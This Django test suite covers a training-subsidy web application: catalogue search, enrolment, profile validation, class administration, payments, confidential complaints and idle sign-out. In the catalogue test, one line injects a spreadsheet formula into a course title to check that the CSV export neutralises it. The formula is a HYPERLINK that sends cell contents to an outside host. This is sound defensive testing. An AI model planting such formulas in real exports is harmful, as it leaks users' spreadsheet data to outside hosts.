"""Every page drawn for whoever it is for, and what comes back from what they post."""

from datetime import UTC, datetime, time, timedelta
from uuid import uuid4

import pytest
import time_machine
from django.test import Client
from django.urls import reverse

from casework.cases.doing import perform
from casework.models import Case
from casework.papers.wordings import sync_wordings
from kernel.dates import TAIPEI, roc
from ojt_subsidy.models import Course, CourseIntake, Enrolment, PaymentBatch, PaymentLine, Trainee
from ojt_subsidy.services import batching, complaining, running
from ojt_subsidy.wordings import HELP
from tests.ojt_accounts.world import pdf
from tests.ojt_subsidy import world as w
from tests.ojt_subsidy.test_path import answered

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _texts(db):
    sync_wordings(at=w.now())


def client(user=None):
    one = Client(headers={"host": "localhost"})
    if user is not None:
        one.force_login(user)
    return one


def see(visitor, name, *args, status=200, **query):
    answer = visitor.get(reverse(name, args=args), query)
    assert answer.status_code == status, (name, answer.status_code, answer.content.decode()[:800])
    return answer.content.decode()


def test_of_two_classes_at_the_same_hours_the_page_takes_one(here):
    """SUB-04, at the button: the sentence names the other class and the hours."""
    day = w.taipei_day(w.now()) + timedelta(days=20)
    first, second = w.published(here, day), w.published(here, day, title="同時段課程")
    who = w.trainee()
    mine = client(who)
    assert (
        mine.post(reverse("ojt_subsidy:enrol", args=[first.code]), {"key": uuid4(), "person": who.pk}).status_code
        == 302
    )
    refused = mine.post(
        reverse("ojt_subsidy:enrol", args=[second.code]), {"key": uuid4(), "person": who.pk}, follow=True
    )
    text = refused.content.decode()
    assert first.title in text and "授課時段重疊，請擇一參訓" in text
    assert who.enrolments.count() == 1


def test_a_cancelled_class_has_no_seats_to_give(here):
    course = w.published(here)
    perform(course.case, "cancel", reason="講師請辭", by=here.chief, at=w.now())
    text = see(client(), "ojt_subsidy:course", course.code)
    assert "停辦" in text and "尚有名額" not in text and "開放報名" not in text.partition("</header>")[0]


def test_the_public_finds_a_course(here):
    """SUB-01, SUB-22."""
    course = w.published(here)
    anybody = client()
    text = see(anybody, "ojt_subsidy:catalogue", q="機器")
    assert course.title in text
    assert "沒有符合條件" in see(anybody, "ojt_subsidy:catalogue", q="烘焙")
    assert course.title in see(
        anybody, "ojt_subsidy:catalogue", branch=here.branch.pk, county="67000", plan="industry_talent", seats_left="on"
    )
    assert "登入後報名" in see(anybody, "ojt_subsidy:course", course.code)
    calendar = see(anybody, "ojt_subsidy:calendar", course.code)
    first = course.sessions.order_by("number")[0]
    assert calendar.count("BEGIN:VEVENT") == course.sessions.count()
    assert f"DTSTART:{first.starts_at.astimezone(UTC):%Y%m%dT%H%M%SZ}" in calendar
    assert f"DTEND:{first.ends_at.astimezone(UTC):%Y%m%dT%H%M%SZ}" in calendar
    type(course).objects.filter(pk=course.pk).update(title='=HYPERLINK("http://example.org"&A1)')
    sheet = see(anybody, "ojt_subsidy:open_data_csv")
    assert course.code in sheet
    assert "'=HYPERLINK" in sheet, "a cell that a spreadsheet would run"
    assert anybody.get(reverse("ojt_subsidy:open_data_json")).json()["count"] == 1
    assert "還沒有人報名" in see(anybody, "ojt_subsidy:ledger", course.code)
    see(anybody, "ojt_subsidy:course", "115-000999", status=404)
    assert anybody.get(reverse("ojt_subsidy:clock")).json()["now"] > 0
    see(anybody, "ojt_subsidy:help")
    for topic in HELP:
        assert topic.title in see(anybody, "ojt_subsidy:help_topic", topic.slug)


def test_nothing_is_found_before_publication_and_the_list_asks_few_questions(here, django_assert_max_num_queries):
    w.drafted(here)
    assert "沒有符合條件" in see(client(), "ojt_subsidy:catalogue")
    for _ in range(3):
        w.published(here)
    with django_assert_max_num_queries(8):
        see(client(), "ojt_subsidy:catalogue")


def test_somebody_joins_fills_in_their_data_and_enrols(here, mailoutbox):
    course = w.published(here)
    anybody = client()
    see(anybody, "ojt_subsidy:join")
    posted = {"name": "陳小明", "email": "ming@example.com", "account": "ming2026", "agreed": "on"}
    assert anybody.post(reverse("ojt_subsidy:join"), posted | {"account": "1x"}).status_code == 422
    assert anybody.post(reverse("ojt_subsidy:join"), posted).status_code == 302
    see(anybody, "ojt_subsidy:joined")
    person = w.User.objects.get(account_name="ming2026")
    assert person.notices.filter(body__contains="/set-password/").exists()
    mine = client(person)
    assert "先填個人報名資料" in see(mine, "ojt_subsidy:course", course.code)
    see(mine, "ojt_subsidy:profile")
    data = {
        "key": uuid4(), "national_id": w.national_id(777), "born_on": "80/01/01", "mobile": "0912345678", "employer": "某公司",
        "bank_code": "700", "bank_account": "00012345678901", "next": f"/courses/{course.code}/",
    }  # fmt: skip
    bad = mine.post(reverse("ojt_subsidy:profile"), data | {"national_id": "A123456788", "born_on": "81/02/30"})
    assert bad.status_code == 422
    assert "某公司" in bad.content.decode()
    assert mine.post(reverse("ojt_subsidy:profile"), data).status_code == 302
    assert "**********8901" in see(mine, "ojt_subsidy:profile")
    assert "00012345678901" not in see(mine, "ojt_subsidy:profile")
    form = {"key": uuid4(), "person": person.pk}
    first = mine.post(reverse("ojt_subsidy:enrol", args=[course.code]), form)
    again = mine.post(reverse("ojt_subsidy:enrol", args=[course.code]), form)
    assert first.status_code == again.status_code == 302
    assert first.url == again.url
    row = Enrolment.objects.get(person=person)
    assert f"第 {row.number} 號" in see(mine, "ojt_subsidy:enrolled", row.pk)
    for name in (
        "mine",
        "balance",
        "payments",
        "identity",
        "single_supporter",
        "complaints",
        "complain",
        "balance_statement",
    ):
        answer = mine.get(reverse(f"ojt_subsidy:{name}"))
        assert answer.status_code == 200, name
    assert mine.get(reverse("ojt_subsidy:receipt", args=[row.pk])).content.startswith(b"%PDF")
    see(mine, "ojt_subsidy:insurance_upload", row.pk)
    see(client(w.trainee()), "ojt_subsidy:enrolled", row.pk, status=404)
    assert "陳○明" in see(client(), "ojt_subsidy:ledger", course.code) or "陳" in see(
        client(), "ojt_subsidy:ledger", course.code
    )
    assert "陳小明" not in see(client(), "ojt_subsidy:ledger", course.code)
    assert mine.post(reverse("ojt_subsidy:withdraw", args=[row.pk])).status_code == 302


def test_a_moment_early_says_the_servers_time_and_another_persons_page_files_nothing(here):
    course = w.published(here, w.taipei_day(w.now()) + timedelta(days=60))
    who = w.trainee()
    mine = client(who)
    with time_machine.travel(w.opening(course) - timedelta(microseconds=1), tick=False):
        mine.force_login(who)
        answer = mine.post(reverse("ojt_subsidy:enrol", args=[course.code]), {"key": uuid4(), "person": who.pk})
    assert answer.status_code == 422
    assert "11:59:59.999" in answer.content.decode()
    assert not Enrolment.objects.exists()
    with time_machine.travel(w.opening(course), tick=False):
        mine.force_login(who)
        other = mine.post(reverse("ojt_subsidy:enrol", args=[course.code]), {"key": uuid4(), "person": who.pk + 1})
        assert other.status_code == 404
        assert (
            mine.post(reverse("ojt_subsidy:enrol", args=[course.code]), {"key": uuid4(), "person": who.pk}).status_code
            == 302
        )


def test_the_unit_files_a_plan_and_works_through_the_class(here):
    clerk = client(here.clerk)
    see(clerk, "ojt_subsidy:classes")
    see(clerk, "ojt_subsidy:file_course")
    intake = CourseIntake.objects.get()
    starts = w.taipei_day(w.now()) + timedelta(days=20)
    data = {
        "intake": intake.pk, "plan": "industry_talent", "unit_kind": "foundation", "title": "烘焙班", "category": "food",
        "occupation": "烘焙", "county": "67000", "place": "臺南市", "starts_on": starts.isoformat(),
        "ends_on": (starts + timedelta(days=7)).isoformat(), "content": "麵包", "teachers": "林師傅", "fee": "8000", "seats": "20",
        "others": "0", "advance_percent": "100", "weekday_1": starts.weekday(), "from_1": "19:00", "until_1": "22:00",
    }  # fmt: skip
    late = (starts + timedelta(days=150)).isoformat()
    wrong = clerk.post(reverse("ojt_subsidy:file_course"), data | {"ends_on": late, "key": uuid4()})
    assert wrong.status_code == 422
    assert "烘焙班" in wrong.content.decode()
    made = clerk.post(reverse("ojt_subsidy:file_course"), data | {"key": uuid4()})
    assert made.status_code == 302, made.content.decode()[:2000]
    text = clerk.get(made.url).content.decode()
    assert "符合申請單位資格" in text
    case = Case.objects.get(subsidy_course__title="烘焙班")
    see(clerk, "casework:case", case.number)
    see(client(here.union_clerk), "ojt_subsidy:file_course_edit", case.number, status=404)
    course = w.published(here, seats=2)
    first = w.enrolled(course, w.trainee())
    second = w.enrolled(course, w.trainee())
    page = reverse("ojt_subsidy:enrolments", args=[course.code])
    out_of_order = clerk.post(page, {"key": uuid4(), "act": "ask", "enrolment": second.pk})
    assert "請依報名序號審核" in out_of_order.content.decode()
    assert clerk.post(page, {"key": uuid4(), "act": "ask", "enrolment": first.pk}).status_code == 302
    mine = client(first.person)
    see(mine, "ojt_subsidy:stand_in", first.pk)
    assert mine.post(reverse("ojt_subsidy:stand_in", args=[first.pk]), {"key": uuid4()}).status_code == 302
    days = dict.fromkeys(("fee_paid_on", "papers_on"), w.taipei_day(w.now()).isoformat())
    assert clerk.post(page, {"key": uuid4(), "act": "admit", "enrolment": first.pk, **days}).status_code == 302
    for name in ("enrolments", "attendance", "results"):
        see(clerk, f"ojt_subsidy:{name}", course.code)
        see(client(here.union_clerk), f"ojt_subsidy:{name}", course.code, status=404)
    shut = f"課程尚未開訓，開訓日 {roc(course.starts_on)} 起才能登錄出缺席。"
    text = see(clerk, "ojt_subsidy:attendance_session", course.code, 1)
    assert shut in text and 'name="hours_' not in text and "disabled" in text
    listed = see(clerk, "ojt_subsidy:attendance", course.code)
    assert shut in listed and reverse("ojt_subsidy:attendance_session", args=[course.code, 1]) not in listed
    for paper in ("roster", "sign_in_sheet"):
        assert clerk.get(reverse("ojt_subsidy:class_paper", args=[course.code, paper])).content.startswith(b"%PDF")
    see(client(here.outsider), "ojt_subsidy:class_paper", course.code, "roster", status=404)


def test_what_a_running_class_cannot_do_yet_is_shut_and_says_why(here):
    course = w.published(here)
    row, clerk = w.admitted(here, course, w.trainee()), client(here.clerk)
    first, second = course.sessions.order_by("number")[:2]
    with time_machine.travel(first.ends_at, tick=False):
        running.run_day(at=first.ends_at)
        clerk.force_login(here.clerk)
        listed = see(clerk, "ojt_subsidy:attendance", course.code)
        addresses = [reverse("ojt_subsidy:attendance_session", args=[course.code, n]) for n in (1, 2)]
        assert [address in listed for address in addresses] == [True, False]
        assert f'name="hours_{row.pk}"' in see(clerk, "ojt_subsidy:attendance_session", course.code, 1)
        assert "這堂課還沒開始" in see(clerk, "ojt_subsidy:attendance_session", course.code, second.number)
        running.record_attendance(first, missed={row.pk: 0}, by=here.clerk, at=first.ends_at)
        text, why = see(clerk, "ojt_subsidy:results", course.code), "課程結訓後才能登錄考核結果。"
        assert why in text and text.count("disabled aria-describedby") == 2 and 'name="passed"' not in text
        assert "期間內已使用及保留新臺幣" in see(client(row.person), "ojt_subsidy:course", course.code)
    after = first.ends_at + timedelta(days=60)
    with time_machine.travel(after, tick=False):
        running.run_day(at=after)
        clerk.force_login(here.clerk)
        text = see(clerk, "ojt_subsidy:results", course.code)
        assert why not in text and 'name="passed"' in text


def test_the_branch_exchanges_pays_and_counts(here):
    course = w.published(here)
    row = w.admitted(here, course, w.trainee())
    w.insured(here, row)
    officer, chief, cashier = client(here.officer), client(here.chief), client(here.cashier)
    with time_machine.travel(datetime.combine(course.starts_on, time(9), TAIPEI), tick=False):
        out = client(here.officer).post(
            reverse("admin:subsidy_insurance"),
            {
                "out": "",
                "key": uuid4(),
                "office": here.branch.pk,
                "day": course.starts_on.isoformat(),
                "reason": "勾稽",
            },
        )
    assert out.content.decode("utf-8-sig").startswith("編號,身分證字號")
    after = w.held(here, course, [row])
    one = w.closed(here, course, after)
    see(officer, "admin:subsidy_closings")
    text = see(officer, "admin:subsidy_payments", one.case.number)
    assert "8,000" in text
    see(client(here.outsider), "admin:subsidy_payments", one.case.number, status=404)
    posted = chief.post(reverse("admin:subsidy_payments", args=[one.case.number]), {"key": uuid4(), "act": "all"})
    assert posted.status_code == 302
    made = cashier.post(reverse("admin:subsidy_batches"), {"key": uuid4(), "office": here.branch.pk})
    assert made.status_code == 302
    batch = PaymentBatch.objects.get()
    see(cashier, "admin:subsidy_batch", batch.pk)
    see(officer, "admin:subsidy_batch", batch.pk, status=404)
    given = {"send": "", "count": 1, "total": 8000}
    assert cashier.post(reverse("admin:subsidy_batch", args=[batch.pk]), given).status_code == 302
    file = cashier.get(reverse("admin:subsidy_batch_file", args=[batch.pk]))
    assert file.content.decode("utf-8-sig").splitlines()[-1] == "T,1,8000"
    batch.refresh_from_db()
    batching.apply_result(batch, data=answered(batch), by=here.cashier, at=after)
    line = PaymentLine.objects.get()
    mine = client(row.person)
    assert "8,000" in see(mine, "ojt_subsidy:enrolled", row.pk)
    assert mine.get(reverse("ojt_subsidy:payment_notice", args=[row.pk])).content.startswith(b"%PDF")
    assert mine.get(reverse("ojt_subsidy:certificate", args=[course.code, row.pk])).content.startswith(b"%PDF")
    for paper in ("closing_cover", "subsidy_list"):
        assert officer.get(reverse("ojt_subsidy:class_paper", args=[course.code, paper])).content.startswith(b"%PDF")
    assert "<svg" in see(officer, "admin:subsidy_statistics")
    for name in ("intakes", "insurance", "outside"):
        see(officer, f"admin:subsidy_{name}")
    see(cashier, "admin:subsidy_batches")
    see(client(here.clerk), "ojt_subsidy:closing", course.code)
    see(client(here.clerk), "ojt_subsidy:pass_on", course.code)
    for number in (course.case.number, one.case.number):
        see(officer, "admin:case", number)
    see(mine, "ojt_subsidy:payments")
    assert line.outcomes


def test_evidence_and_the_questionnaire(here):
    who = w.trainee()
    mine = client(who)
    answers = {
        "key": uuid4(), "ground": "divorced", "county": "67000", "relation_1": "descendant", "born_on_1": "105/01/01", "ask_it": "",
    }  # fmt: skip
    text = mine.post(reverse("ojt_subsidy:single_supporter"), answers).content.decode()
    assert "新式戶口名簿影本" in text
    answer = mine.post(reverse("ojt_subsidy:single_supporter"), answers | {"file_it": "", "file": pdf()})
    assert answer.status_code == 302, answer.content.decode()[-1500:]
    case = Case.objects.get(kind="ojt_subsidy.evidence")
    assert case.state == "filed"
    officer = client(here.officer)
    see(officer, "admin:case", case.number)
    see(mine, "casework:case", case.number)
    see(client(here.outsider), "admin:case", case.number, status=404)
    perform(case, "accept", by=here.officer, at=w.now())
    course = w.published(here)
    row = w.admitted(here, course, who)
    assert "補助100%" in see(mine, "ojt_subsidy:balance") or row.entries.get().amount == 10_000


def test_a_confidential_complaint_names_nobody(here, mailoutbox):
    who = w.trainee("歐陽保密")
    course = w.published(here)
    made = complaining.file_complaint(
        person=who, county=here.county, course=course, about="teacher", body="講師遲到", confidential=True, at=w.now()
    )
    number = made.case.number
    handler, officer, mine = client(here.complaints), client(here.officer), client(who)
    assert "歐陽保密" in see(handler, "admin:case", number)
    text = see(officer, "admin:case", number)
    assert "歐陽保密" not in text
    assert "陳情人（保密）" in text
    assert "歐陽保密" not in see(officer, "admin:work")
    assert "歐陽保密" not in see(officer, "admin:work", q="歐陽保密").replace('value="歐陽保密"', "").replace(
        "「歐陽保密」", ""
    )
    see(client(here.clerk), "casework:case", number, status=404)
    assert "歐陽保密" in see(mine, "casework:case", number)
    perform(made.case, "take", by=here.complaints, at=w.now())
    perform(made.case, "answer", text="已請單位改善", by=here.complaints, at=w.now())
    perform(made.case, "insist", reason="仍然遲到", by=who, at=w.now())
    assert not made.case.events.filter(by=who).exists()
    assert "歐陽保密" not in "".join(made.case.events.values_list("by_name", flat=True))
    assert all("歐陽保密" not in one.subject + one.body for one in made.case.notices.all())
    answer = mine.post(reverse("casework:message", args=[number]), {"body": "我是歐陽保密"})
    assert answer.status_code == 422
    assert "歐陽保密" not in see(officer, "admin:case", number)


def test_half_an_hour_idle_signs_out_of_the_personal_page_only(here, settings):
    """SUB-17."""
    who = w.trainee()
    start = w.now()
    for name, expected in (("ojt_subsidy:mine", 200), ("ojt_subsidy:profile", 302)):
        mine = client(who)
        with time_machine.travel(start, tick=False):
            mine.force_login(who)
            see(mine, name)
        with time_machine.travel(start + timedelta(minutes=31), tick=False):
            assert mine.get(reverse("ojt_subsidy:mine")).status_code == expected
    mine = client(who)
    mine.force_login(who)
    data = {"draft_key": "ojt_subsidy.profile", "employer": "打到一半", "bank_account": "00012345678901"}
    assert mine.post(reverse("casework:autosave"), data).json()["saved"]
    Trainee.objects.update(saved_at=start - timedelta(days=1))
    text = see(mine, "ojt_subsidy:profile")
    assert "打到一半" in text
    assert "00012345678901" not in text
    assert Course.objects.count() == 0
